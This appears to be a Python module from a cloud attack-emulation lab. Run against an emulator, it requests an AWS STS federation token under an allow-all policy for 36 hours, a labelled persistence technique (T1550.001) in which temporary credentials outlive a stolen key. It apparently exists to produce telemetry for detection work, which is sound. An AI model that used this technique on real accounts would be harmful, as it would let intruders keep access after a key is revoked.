"""sts-federation-token: temporary credentials that outlive the stolen key (T1550.001)."""

from __future__ import annotations

import json
from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.compromised_user import CompromisedUserActivity
from lab.emulator.endpoints import Endpoints

ALLOW_ALL = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
}


class StsFederationToken(CompromisedUserActivity):
    folder = Path(__file__).parent

    def act(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("sts", "attacker").get_federation_token(
            Name="lab-persistence", Policy=json.dumps(ALLOW_ALL), DurationSeconds=129600
        )


TECHNIQUE = StsFederationToken
